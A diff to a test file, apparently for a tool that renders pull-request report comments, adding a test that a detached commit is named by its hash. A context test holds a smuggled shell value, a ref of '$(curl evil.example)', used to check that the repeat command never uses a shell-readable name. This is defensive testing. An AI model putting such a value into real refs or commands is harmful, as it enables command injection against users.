@@ -220,6 +220,15 @@ it("says the same without any HTML, as an e-mail", () => {
   }
 });
 
+it("calls a commit that is on no branch by its hash, once", () => {
+  const { report } = pullRequests["one failure"] as { report: Report };
+  const { base } = report.revisions;
+  for (const ref of [base?.sha ?? "", base?.sha?.slice(0, 12) ?? ""]) {
+    const revisions = { ...report.revisions, base: { ref, sha: base?.sha ?? null, dirty: false } };
+    expect(renderComment({ ...report, revisions })).toContain("against base `98ab00d`\n");
+  }
+});
+
 it("names base by its hash in the command to repeat it, never by a name that a shell could read", () => {
   const { report } = pullRequests["one failure"] as { report: Report };
   const base = { ref: "$(curl evil.example)", sha: "98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071", dirty: false };
